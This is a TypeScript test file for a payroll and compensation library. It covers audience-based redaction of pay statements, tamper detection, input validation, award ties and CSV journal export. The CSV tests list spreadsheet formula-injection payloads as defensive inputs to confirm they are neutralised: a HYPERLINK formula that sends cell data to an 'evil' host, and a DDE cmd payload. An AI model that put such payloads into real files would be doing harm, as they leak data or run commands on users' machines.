@@ -1,0 +1,692 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { explainAward, giveAward, parseAward } from '../../src/bonus/index.js'
+import { nextPeriod, parsePeriod } from '../../src/calendar/index.js'
+import { parseContest, rankContest } from '../../src/commission/index.js'
+import { renderText } from '../../src/formula/index.js'
+import { describeProblems, PolicyError } from '../../src/problem/index.js'
+import {
+  type Audience,
+  type CompensationRun,
+  type DisclosedStatement,
+  digestOf,
+  explainStatement,
+  type JournalRow,
+  journal,
+  journalCsv,
+  parseAdjustments,
+  parseAwards,
+  parseBook,
+  parsePools,
+  parseRun,
+  parseRunData,
+  parseStatement,
+  redact,
+  rerunCompensation,
+  runCompensation,
+  type Statement,
+  statementPage,
+  verify,
+  verifyChain,
+} from '../../src/run/index.js'
+import { bookPolicies, runDataOf } from '../../src/testing/index.js'
+import { book as company, request, statementOf } from '../run/company.js'
+import { adjustments, awards, pools, yearEnd } from '../run/year-end.js'
+
+describe('disclosure: what leaves the house says nothing of others, and no more than was verified', () => {
+  const audiences: readonly Audience[] = ['employee', 'manager', 'peer', 'auditor']
+  const given = { book: { ...company, policies: yearEnd() }, pools, awards, adjustments }
+  const [book, data, period] = request(given)
+  const run = runCompensation(book, data, period)
+  const li = statementOf(run, 'li')
+  const march = parsePeriod('2026-03')
+  const drawnRuns = bookPolicies()
+    .map(parseBook)
+    .chain((drawn) => runDataOf(drawn, march).map((own) => ({ book: drawn, data: own })))
+
+  describe.each(audiences)('A3 the statement of the %s', (audience) => {
+    test.each(['en', 'zh-CN'] as const)('is rendered in %s', (locale) => {
+      for (const statement of run.statements) {
+        const shown = redact(statement, audience)
+        const text = renderText(explainStatement(shown, { locale }))
+        expect(text).not.toMatch(/undefined|null|NaN/)
+        expect(statementPage(shown, { locale })).toContain(`<html lang="${locale}">`)
+        expect(text.includes(statement.total.slice(-6))).toBe(audience !== 'peer')
+      }
+    })
+
+    test('names a rival to the auditor alone', () => {
+      const page = statementPage(redact(li, audience), { locale: 'en' })
+      expect(page.includes('Wang Wei')).toBe(audience === 'auditor')
+    })
+
+    test('A1 holds no digest, but for the auditor', () => {
+      const shown = redact(li, audience)
+      const digests = /[0-9a-f]{64}/
+      expect(digests.test(JSON.stringify(shown))).toBe(audience === 'auditor')
+      expect(digests.test(statementPage(shown, { locale: 'en' }))).toBe(audience === 'auditor')
+    })
+
+    test('A16 holds nothing that is not named', () => {
+      const shown = redact(noted(li), audience)
+      expect(JSON.stringify(shown)).not.toContain('§')
+      expect(shown).toEqual(redact(li, audience))
+      expect(statementPage(shown, { locale: 'zh-CN' })).not.toContain('§')
+    })
+
+    test('A3 shows no mark of what is hidden, in any drawn run', () => {
+      fc.assert(
+        fc.property(
+          drawnRuns,
+          fc.constantFrom('en' as const, 'zh-CN' as const),
+          (drawn, locale) => {
+            for (const statement of runCompensation(drawn.book, drawn.data, march).statements) {
+              const marked = noted(hiddenMarked(statement, audience))
+              // Labelled for an audience, but with all in it: the page shows no more than it may see.
+              const labelled: DisclosedStatement = { ...marked, audience }
+              for (const shown of [redact(marked, audience), labelled]) {
+                expect(statementPage(shown, { locale })).not.toContain('§')
+                expect(renderText(explainStatement(shown, { locale }))).not.toContain('§')
+              }
+              expect(redact(statement, 'auditor')).toEqual({ ...statement, audience: 'auditor' })
+            }
+          },
+        ),
+        { numRuns: 8 },
+      )
+    })
+  })
+
+  test('A3 a statement that names no audience is shown to nobody', () => {
+    const full = li as unknown as DisclosedStatement
+    for (const statement of [full, { ...full, audience: 'boss' as Audience }]) {
+      expect(() => explainStatement(statement, { locale: 'en' })).toThrow(PolicyError)
+      expect(() => statementPage(statement, { locale: 'en' })).toThrow(PolicyError)
+    }
+    expect(() => statementPage(full, { locale: 'en' })).toThrow(
+      'audience: undefined is nobody to whom a statement is shown. Give what redact(statement, audience) copies for "employee", "manager", "peer" or "auditor".',
+    )
+    expect(() => redact(li, 'constructor' as Audience)).toThrow('"constructor" is nobody')
+  })
+
+  test('A16 a line of no known kind, and what an object inherits, are not copied', () => {
+    const odd = { ...li.lines[0], kind: 'toString' } as unknown as Statement['lines'][number]
+    expect(redact({ ...li, lines: [odd] }, 'auditor').lines).toEqual([])
+    const inherited = Object.create({ clause: '§' }, Object.getOwnPropertyDescriptors(li.lines[1]))
+    expect(JSON.stringify(redact({ ...li, lines: [inherited] }, 'employee'))).not.toContain('§')
+  })
+
+  test('A3 a copy from which more was taken still renders', () => {
+    const bare = li.lines.map(({ kind, source, label }) => ({ kind, source, label }))
+    const shown = { ...redact(li, 'auditor'), lines: bare } as DisclosedStatement
+    const { steps, how } = explainStatement(shown, { locale: 'en' })
+    expect(how).toEqual([])
+    expect(new Set(steps.map(({ value }) => value))).toEqual(new Set(['not shown']))
+    expect(steps.every((step) => step.how.length === 0 && step.steps.length === 0)).toBe(true)
+  })
+
+  test.each([
+    [
+      'a rival’s score',
+      {
+        awards: { ...awards, star: [awards.star[0], { id: 'wang', figures: { score: '95.99' } }] },
+      },
+    ],
+    [
+      'a rival’s weight in the award of teams',
+      {
+        awards: {
+          ...awards,
+          team: [awards.team[0], { ...awards.team[1], figures: { score: '12' } }],
+        },
+      },
+    ],
+    ['the pay of all others before', { before: { ...run, digest: digestOf('another firm') } }],
+  ])('A1 A2 %s changes nothing that the employee holds', (_, change) => {
+    const [, changed] = request({ ...given, ...change } as typeof given)
+    const later = 'before' in change ? nextPeriod(period) : period
+    const figures = (people: typeof data.people) =>
+      people.map((each) => ({
+        ...each,
+        figures: { ...each.figures, [later.name]: each.figures[period.name] ?? {} },
+      }))
+    const pay = (own: typeof data) =>
+      statementOf(
+        runCompensation(book, { ...own, people: figures(own.people), asOf: later.end }, later),
+        'li',
+      )
+    const plain = 'before' in change ? { ...data, before: run } : data
+    const [first, second] = [pay(plain), pay(changed)]
+    expect(second.digest).not.toBe(first.digest)
+    for (const audience of ['employee', 'manager', 'peer'] as const)
+      expect(redact(second, audience)).toEqual(redact(first, audience))
+  })
+
+  describe('A17 a run made again', () => {
+    const changed = (change: (own: Statement) => object, digested: boolean): CompensationRun => ({
+      ...run,
+      statements: run.statements.map((each) => {
+        if (each.person !== 'li') return each
+        const { digest, ...content } = { ...each, ...change(each) }
+        return { ...content, digest: digested ? digestOf(content) : digest }
+      }),
+    })
+    const greedy = () => ({ total: '99999.00' })
+    const line = ({ lines }: Statement) => ({
+      lines: lines.map((each, i) => (i === 0 ? { ...each, amount: '99999.00' } : each)),
+    })
+    test.each<[string, CompensationRun]>([
+      ['a total with a new digest', changed(greedy, true)],
+      ['a total with the old digest', changed(greedy, false)],
+      ['a line with a new digest', changed(line, true)],
+      ['a line with the old digest', changed(line, false)],
+      ['what is owed', { ...run, owed: { li: { carried: [], draw: '500.00' } } }],
+      ['what was settled', { ...run, settlements: run.settlements.slice(1) }],
+    ])('takes over nothing that does not hold: %s', (_, tampered) => {
+      const again = rerunCompensation(tampered, book, data)
+      expect(again).toEqual(run)
+      expect(verifyChain([again])).toEqual([])
+    })
+
+    test('takes over no statement whose digest does not hold, in a run whose digest does', () => {
+      const again = rerunCompensation(changed(greedy, false), book, data)
+      expect(again.statements).toEqual(run.statements)
+    })
+
+    test('takes over what holds', () => {
+      const again = rerunCompensation(run, book, data)
+      expect(again.statements.every((each, i) => each === run.statements[i])).toBe(true)
+    })
+  })
+
+  describe('A24 data that no parser has read', () => {
+    const whole = JSON.parse(JSON.stringify({ ...data, before: runOfMay() })) as typeof data
+    const paths = pathsIn({ data: whole, period }).filter((path) => path.length > 1)
+
+    test.each<[string, object, string]>([
+      ['people without an id', { people: [{ ...data.people[0], id: undefined }] }, 'people[0].id'],
+      [
+        'people without figures',
+        { people: [{ ...data.people[0], figures: undefined }] },
+        'people[0].figures',
+      ],
+      [
+        'events without attributes',
+        { events: [{ ...data.events[0], attributes: null }] },
+        'events[0].attributes',
+      ],
+      ['a pool of nothing', { pools: { profit: {} } }, 'pools.profit.figures'],
+      ['a pool that is a list', { pools: { profit: [] } }, 'pools.profit'],
+      [
+        'a member without figures',
+        { pools: { profit: { figures: {}, members: [{ id: 'a' }] } } },
+        'pools.profit.members[0].figures',
+      ],
+      ['an entry without figures', { awards: { star: [{ id: 'li' }] } }, 'awards.star[0].figures'],
+      ['entries that are none', { awards: { star: null } }, 'awards.star'],
+      [
+        'a label of one language',
+        { awards: { star: [{ id: 'li', label: { en: 'Li' }, figures: {} }] } },
+        'awards.star[0].label.zh-CN',
+      ],
+      [
+        'a label that is a number',
+        { awards: { star: [{ id: 'li', label: 5, figures: {} }] } },
+        'awards.star[0].label',
+      ],
+      ['a run before of nothing', { before: {} }, 'before.period'],
+      ['no day', { asOf: undefined }, 'asOf'],
+      ['a misspelt key', { adjustmnets: [] }, 'adjustmnets'],
+      ['a key of the run before', { owed: {} }, 'owed'],
+    ])('is refused for %s', (_, change, path) => {
+      const wrong = () => runCompensation(book, { ...data, ...change } as typeof data, period)
+      expect(problemsIn(wrong)[0]?.path).toBe(path)
+    })
+
+    test.each([null, {}, [], 'x', undefined, { name: '2026-06' }])(
+      'is refused for the period %j',
+      (odd) => {
+        const wrong = () => runCompensation(book, data, odd as unknown as typeof period)
+        expect(problemsIn(wrong)[0]?.path).toMatch(/^period/)
+      },
+    )
+
+    test('is refused for a period of other days than its name means', () => {
+      const long = { ...period, end: '2026-12-31' }
+      expect(() => runCompensation(book, data, long)).toThrow(
+        'period: 2026-06 is from 2026-06-01 to 2026-06-30, and not from 2026-06-01 to 2026-12-31. Give what parsePeriod reads by the calendar of the book.',
+      )
+      expect(() => runCompensation(book, data, { ...period, name: 'June' })).toThrow(/^period/)
+      expect(() => runCompensation(book, null as unknown as typeof data, period)).toThrow(
+        PolicyError,
+      )
+    })
+
+    test('is refused for members of members without end', () => {
+      type Member = { id: string; figures: object; members: Member[] }
+      const endless: Member = { id: 'a', figures: { share: 1, months: 1 }, members: [] }
+      endless.members.push(endless)
+      const profit = { figures: { profit: '1' }, members: [endless] }
+      const wrong = () =>
+        runCompensation(book, { ...data, pools: { profit } } as typeof data, period)
+      expect(problemsIn(wrong).map(({ code }) => code)).toContain('unread-members')
+    })
+
+    test('gives pay or a PolicyError, and nothing else, whatever is changed in it', () => {
+      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', '', 5, true, [null], {
+        x: null,
+      })
+      fc.assert(
+        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
+          const changed = replaced({ data: whole, period }, path, value) as {
+            data: typeof data
+            period: typeof period
+          }
+          orProblems(() => runCompensation(book, changed.data, changed.period))
+        }),
+        { numRuns: 120 },
+      )
+    })
+
+    function runOfMay(): CompensationRun {
+      const may = parsePeriod('2026-05')
+      return { ...run, period: may, asOf: may.end, settlements: [] }
+    }
+  })
+
+  describe('A24 what is stored', () => {
+    const json = (value: unknown) => JSON.parse(JSON.stringify(value)) as never
+
+    test('is read as it was written, of every drawn run', () => {
+      fc.assert(
+        fc.property(drawnRuns, (drawn) => {
+          const paid = runCompensation(drawn.book, drawn.data, march)
+          expect(parseRun(json(paid))).toEqual(paid)
+          expect(parseRunData(json(drawn.data))).toEqual(drawn.data)
+          expect(parseRunData(json({ ...drawn.data, before: paid })).before).toEqual(paid)
+          for (const statement of paid.statements)
+            expect(parseStatement(json(statement))).toEqual(statement)
+        }),
+        { numRuns: 8 },
+      )
+      const { period: of, asOf, settlements, owed, digest } = run
+      const state = { period: of, asOf, settlements, owed, digest }
+      expect(parseRunData(json({ ...data, before: state })).before).toEqual(state)
+      expect(parseRun(json(run))).toEqual(run)
+    })
+
+    test.each<[string, (own: unknown) => unknown, unknown, string]>([
+      ['a pool', parsePools, { profit: { ...pools.profit, figuers: {} } }, 'profit.figuers'],
+      [
+        'a member',
+        parsePools,
+        { profit: { figures: {}, members: [{ id: 'a', figures: {}, wieght: 1 }] } },
+        'profit.members[0].wieght',
+      ],
+      ['a pool’s name', parsePools, { 'no name': pools.profit }, 'no name'],
+      ['pools', parsePools, [], ''],
+      [
+        'a number',
+        parsePools,
+        { profit: { figures: { profit: '1e5' }, members: [] } },
+        'profit.figures.profit',
+      ],
+      [
+        'an entry',
+        parseAwards,
+        { star: [{ id: 'li', figures: {}, form: '2020-01-01' }] },
+        'star[0].form',
+      ],
+      ['a day', parseAwards, { star: [{ id: 'li', figures: {}, from: 'May' }] }, 'star[0].from'],
+      ['entries', parseAwards, { star: {} }, 'star'],
+      ['data', parseRunData, { ...data, adjustmnets: [] }, 'adjustmnets'],
+      ['data of nothing', parseRunData, null, ''],
+      ['a run', parseRun, { ...run, owde: {} }, 'owde'],
+      ['a run without totals', parseRun, { ...run, totals: {} }, 'totals.departments'],
+      ['a statement', parseStatement, { ...li, hrNote: 'x' }, 'hrNote'],
+      [
+        'a line',
+        parseStatement,
+        { ...li, lines: [{ ...li.lines[0], note: 'x' }] },
+        'lines[0].note',
+      ],
+      [
+        'a trace',
+        parseStatement,
+        { ...li, lines: [{ ...li.lines[0], trace: {} }] },
+        'lines[0].trace.node',
+      ],
+    ])('is refused for a misspelt or a wrong part: %s', (_, parse, value, path) => {
+      expect(problemsIn(() => parse(value)).map((each) => each.path)).toContain(path)
+    })
+
+    test('of a statement is verified, or refused when it is read', () => {
+      const paths = pathsIn(li).filter((path) => path.length > 0)
+      const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', 5)
+      fc.assert(
+        fc.property(fc.constantFrom(...paths), odd, (path, value) => {
+          orProblems(() => verify(parseStatement(replaced(li, path, value)), book, data))
+          orProblems(() =>
+            verifyChain([parseRun({ ...run, statements: [replaced(li, path, value)] })]),
+          )
+        }),
+        { numRuns: 40 },
+      )
+    })
+  })
+
+  describe('A25 an amount that skipped its parser', () => {
+    test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
+      '%s is refused at once',
+      (amount) => {
+        const [correction] = adjustments
+        const odd = { ...data, adjustments: [{ ...correction, amount } as (typeof adjustments)[0]] }
+        expect(problemsIn(() => runCompensation(book, odd, period))[0]?.path).toBe(
+          'adjustments[0].amount',
+        )
+        const [first] = data.events
+        const event = { ...first, amount } as (typeof data.events)[0]
+        const sales = { ...data, events: [event] }
+        expect(problemsIn(() => runCompensation(book, sales, period))[0]?.path).toBe(
+          'events[0].amount',
+        )
+      },
+    )
+
+    test.each<[object, string]>([
+      [{ pay: { base: [{ from: '2020-01-01', value: '-9000.00' }] } }, 'pay.base[0].value'],
+      [
+        {
+          pay: {
+            base: [
+              { from: '2020-01-01', value: '9000.00' },
+              { from: '2026-06-11', value: '-0.01' },
+            ],
+          },
+        },
+        'pay.base[1].value',
+      ],
+      [{ targetBonus: '-1' }, 'targetBonus'],
+    ])('of pay below zero pays nobody: %j', (change, path) => {
+      const people = data.people.map((each) => (each.id === 'ann' ? { ...each, ...change } : each))
+      const { unpaid } = runCompensation(book, { ...data, people }, period)
+      expect(unpaid.map(({ person, problems }) => [person, problems[0]?.path])).toEqual([
+        ['ann', path],
+      ])
+    })
+
+    test('that was read is paid', () => {
+      const read = parseAdjustments(JSON.parse(JSON.stringify(adjustments)))
+      expect(runCompensation(book, { ...data, adjustments: read }, period)).toEqual(run)
+    })
+  })
+
+  describe('A5 an award of which all win', () => {
+    const terms = {
+      id: 'present',
+      currency: 'CNY',
+      eligibility: [],
+      ranking: [{ figure: 'days', unit: 'count', direction: 'higher' }],
+      prizes: ['100'],
+      budget: '100000',
+    }
+    const entries = (many: number, days: (i: number) => number) =>
+      Array.from({ length: many }, (_, i) => ({
+        id: `p${String(i).padStart(5, '0')}`,
+        figures: { days: days(i) },
+      }))
+    const asOf = '2026-06-30'
+    const give = (change: object, many: number, days: (i: number) => number = () => 21) =>
+      giveAward(parseAward({ ...terms, ...change }), { asOf, entries: entries(many, days) })
+    const textOf = (result: ReturnType<typeof give>, id: string, locale: 'en' | 'zh-CN' = 'en') =>
+      renderText(explainAward(result, id, { locale }))
+
+    test('names five, and counts the others', () => {
+      const result = give({ ties: 'all-win' }, 1_001)
+      expect(textOf(result, 'p00003')).toContain(
+        'Equal in every criterion: p00000, p00001, p00002, p00004, p00005 and 995 others\n',
+      )
+      expect(textOf(result, 'p00003', 'zh-CN')).toContain('p00004、p00005，另有 995 名\n')
+      expect(textOf(give({ ties: 'all-win' }, 7), 'p00000')).toContain('p00005 and 1 other\n')
+      expect(textOf(give({ ties: 'all-win' }, 6), 'p00000')).toMatch(/p00005$/m)
+    })
+
+    test.each([
+      ['all win, beyond the budget', { ties: 'all-win' }, () => 21, '50.00'],
+      [
+        'all share as many prizes',
+        { ties: 'share', prizes: Array(2_000).fill('10') },
+        () => 21,
+        '10.00',
+      ],
+      ['all share one prize', { ties: 'share' }, () => 21, '0.05'],
+      ['no two are equal', { ties: 'all-win' }, (i: number) => 9_999 - i, '100.00'],
+    ])('takes work and text by the number of entries: %s', (_, change, days, prize) => {
+      const result = give(change, 2_000, days)
+      expect(result.standings[0]?.prize).toBe(prize)
+      const texts = result.standings.map(({ id }) => textOf(result, id))
+      expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(500)
+      expect(JSON.stringify(result).length).toBeLessThan(
+        2_000 * 300 + JSON.stringify(change).length,
+      )
+    })
+
+    test('is paid to 400 people in statements of a size that does not grow with them', () => {
+      const everybody = entries(400, () => 21)
+      const people = everybody.map(({ id }) => ({
+        id,
+        name: `Name of ${id}`,
+        department: 'operations',
+        employment: { from: '2020-01-01' },
+        pay: { base: [{ from: '2020-01-01', value: '9000.00' }] },
+        figures: { quota: '20000.00' },
+      }))
+      const star = { ...yearEnd()[6], id: 'star', kind: 'award' }
+      const versions = [
+        { from: '2026-06-01', reason: 'x', terms: { ...terms, id: 'star', ties: 'all-win' } },
+      ]
+      const policies = [...yearEnd().filter(({ kind }) => kind !== 'award'), { ...star, versions }]
+      const [own, whole, june] = request({
+        book: { ...company, policies },
+        people,
+        events: [],
+        awards: { star: everybody },
+      })
+      const paid = runCompensation(own, whole, june)
+      expect(paid.totals.company.byKind.award).toBe('40000.00')
+      const sizes = paid.statements.map((each) => JSON.stringify(each.lines.at(-1)).length)
+      expect(Math.max(...sizes)).toBeLessThan(2_000)
+      expect(JSON.stringify(paid.statements[7])).toContain('Name of p00001')
+    })
+
+    test('of sales as well: a contest in which all are equal', () => {
+      const contest = parseContest({
+        id: 'c',
+        currency: 'CNY',
+        credit: 'direct',
+        from: '2026-06-01',
+        to: '2026-06-30',
+        prizes: ['1000', '10'],
+      })
+      const credits = entries(1_500, () => 1).map(({ id }) => ({
+        event: id,
+        kind: 'order' as const,
+        effective: '2026-06-02',
+        recorded: '2026-06-02',
+        dealt: '2026-06-02',
+        booked: '2026-06-02',
+        deal: id,
+        credit: 'direct',
+        person: id,
+        amount: '5.00',
+        currency: 'CNY' as const,
+        figures: {},
+        attributes: {},
+      }))
+      const standings = rankContest(contest, credits)
+      expect(new Set(standings.map(({ place }) => place))).toEqual(new Set([1]))
+      expect(standings.map(({ prize }) => prize)).toContain('0.67')
+      const cents = standings.map(({ prize }) => Math.round(Number(prize) * 100))
+      expect(cents.reduce((sum, each) => sum + each, 0)).toBe(101_000)
+    })
+  })
+
+  describe('A19 a journal as CSV', () => {
+    const [row] = journal(run.statements, { locale: 'en' }) as readonly [JournalRow]
+    const cells = (change: Partial<JournalRow>, options?: Parameters<typeof journalCsv>[1]) =>
+      journalCsv([{ ...row, ...change }], options).slice(journalCsv([], options).length)
+
+    test.each([
+      '=HYPERLINK("http://evil/?"&A1)',
+      "+1+cmd|'/C calc'!A0",
+      '-2+3',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+      '\nx',
+      '＝1+1',
+      '＋1',
+      '－1',
+      '＠x',
+      '  =1',
+      '\u0000=1',
+      '\u200E=1',
+    ])('runs no text: %j', (text) => {
+      for (const column of [
+        'person',
+        'name',
+        'costCentre',
+        'label',
+        'clause',
+        'source',
+        'department',
+      ] as const)
+        expect(cells({ [column]: text })).toMatch(/(^|,)"?'/)
+      expect(cells({ name: text }, { formulas: 'keep' })).not.toMatch(/(^|,)"?'/)
+    })
+
+    test('keeps amounts, and a name that is none', () => {
+      expect(cells({ amount: '-20.50' })).toContain(',-20.50,')
+      expect(cells({ amount: '=1+1' })).toContain(",'=1+1,")
+      expect(cells({ name: 'Ann-Lee =' })).toContain(',Ann-Lee =,')
+      expect(cells({})).toBe(cells({}, { formulas: 'keep' }))
+    })
+
+    test('holds no control character', () => {
+      const hostile = 'a\u0000b\u001b[31mc\u0007d\u202Ee\u009Bf\uFEFFg'
+      expect(cells({ name: hostile })).toContain(',ab[31mcdefg,')
+      expect(cells({ name: hostile }, { formulas: 'keep' })).toContain(',ab[31mcdefg,')
+      expect(cells({ name: 'two\tparts' })).toContain(',two\tparts,')
+    })
+
+    test('begins with a mark where that is asked for', () => {
+      expect(journalCsv([], { mark: true })).toBe(`\uFEFF${journalCsv([])}`)
+    })
+  })
+
+  /** Every object with a member that no statement has. */
+  function noted<T>(value: T): T {
+    if (typeof value !== 'object' || value === null) return value
+    if (Array.isArray(value)) return value.map(noted) as T
+    const own = Object.entries(value).map(([name, inner]) => [name, noted(inner)])
+    return { ...Object.fromEntries(own), '§note': '§' } as T
+  }
+
+  /** A statement with a mark before every text that an audience may not see. */
+  function hiddenMarked(statement: Statement, audience: Audience): Statement {
+    const all = audience === 'auditor'
+    const seen = {
+      auditor: Object.keys(statement),
+      employee: [
+        'person',
+        'name',
+        'department',
+        'departmentLabel',
+        'costCentre',
+        'period',
+        'currency',
+        'total',
+      ],
+      manager: [
+        'person',
+        'name',
+        'department',
+        'departmentLabel',
+        'costCentre',
+        'period',
+        'currency',
+        'total',
+      ],
+      peer: ['name', 'department', 'departmentLabel', 'period'],
+    }[audience]
+    const ofLine = (line: Statement['lines'][number]): readonly string[] => {
+      const others = line.kind === 'pool' || line.kind === 'award'
+      if (all || (audience === 'employee' && !others)) return Object.keys(line)
+      if (audience === 'peer')
+        return line.kind === 'award' ? ['kind', 'source', 'label', 'place'] : ['kind']
+      return [
+        'kind',
+        'source',
+        'label',
+        'clause',
+        'amount',
+        ...(audience === 'employee' ? ['place'] : []),
+      ]
+    }
+    const lines = statement.lines.map((line) => markedBut(line, ofLine(line)))
+    return { ...markedBut(statement, [...seen, 'lines']), lines }
+  }
+
+  function markedBut<T extends object>(object: T, kept: readonly string[]): T {
+    const mark = (value: unknown): unknown => {
+      if (typeof value === 'string') return `§${value}`
+      if (typeof value !== 'object' || value === null) return value
+      if (Array.isArray(value)) return value.map(mark)
+      return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, mark(inner)]))
+    }
+    const own = Object.entries(object).map(([name, value]) => [
+      name,
+      kept.includes(name) ? value : mark(value),
+    ])
+    return Object.fromEntries(own) as T
+  }
+
+  /** The problems of a PolicyError; every other error is a defect. */
+  function problemsIn(task: () => unknown): PolicyError['problems'] {
+    try {
+      task()
+    } catch (error) {
+      if (error instanceof PolicyError) return error.problems
+      throw error
+    }
+    throw new Error('it was not refused')
+  }
+
+  function orProblems(task: () => unknown): void {
+    try {
+      task()
+    } catch (error) {
+      if (!(error instanceof PolicyError)) throw error
+      expect(describeProblems(error.problems, 'zh-CN')).not.toContain('undefined undefined')
+    }
+  }
+
+  type Path = readonly string[]
+
+  function pathsIn(value: unknown, path: Path = []): readonly Path[] {
+    if (typeof value !== 'object' || value === null) return [path]
+    return [
+      path,
+      ...Object.entries(value).flatMap(([name, inner]) => pathsIn(inner, [...path, name])),
+    ]
+  }
+
+  function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown {
+    if (first === undefined) return by
+    const own = value as Readonly<Record<string, unknown>>
+    const inner = replaced(own[first], rest, by)
+    return Array.isArray(value)
+      ? value.map((each, i) => (String(i) === first ? inner : each))
+      : { ...own, [first]: inner }
+  }
+})
